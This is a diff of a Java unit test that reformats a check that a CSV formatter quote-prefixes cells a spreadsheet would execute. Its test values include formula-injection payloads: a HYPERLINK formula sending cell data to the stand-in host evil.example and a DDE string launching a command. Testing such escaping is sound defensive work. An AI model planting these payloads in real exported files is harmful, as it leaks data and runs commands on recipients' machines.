@@ -13,8 +13,17 @@ class CsvCellsTest {
 
     @Test
     void cells_a_spreadsheet_would_run_start_with_a_quote_and_numbers_stay_numbers() {
-        List<Object> values = List.of("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "+cmd|'/C calc'!A0",
-                "-2+3", "@SUM(A1)", "\tTab", "\rReturn", "Alexander Lukashenko", "", -5L, 2.5);
+        List<Object> values = List.of(
+                "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
+                "+cmd|'/C calc'!A0",
+                "-2+3",
+                "@SUM(A1)",
+                "\tTab",
+                "\rReturn",
+                "Alexander Lukashenko",
+                "",
+                -5L,
+                2.5);
         List<String> columns = new java.util.ArrayList<>();
         Map<String, Object> row = new LinkedHashMap<>();
         for (int i = 0; i < values.size(); i++) {
@@ -24,8 +33,9 @@ class CsvCellsTest {
 
         String csv = Formats.csv(new QueryResult(columns, List.of(row), false));
 
-        assertThat(csv).isEqualTo("c0,c1,c2,c3,c4,c5,c6,c7,c8,c9\n"
-                + "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\",'+cmd|'/C calc'!A0,'-2+3,'@SUM(A1),"
-                + "'\tTab,\"'\rReturn\",Alexander Lukashenko,,-5,2.5\n");
+        assertThat(csv)
+                .isEqualTo("c0,c1,c2,c3,c4,c5,c6,c7,c8,c9\n"
+                        + "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\",'+cmd|'/C calc'!A0,'-2+3,'@SUM(A1),"
+                        + "'\tTab,\"'\rReturn\",Alexander Lukashenko,,-5,2.5\n");
     }
 }
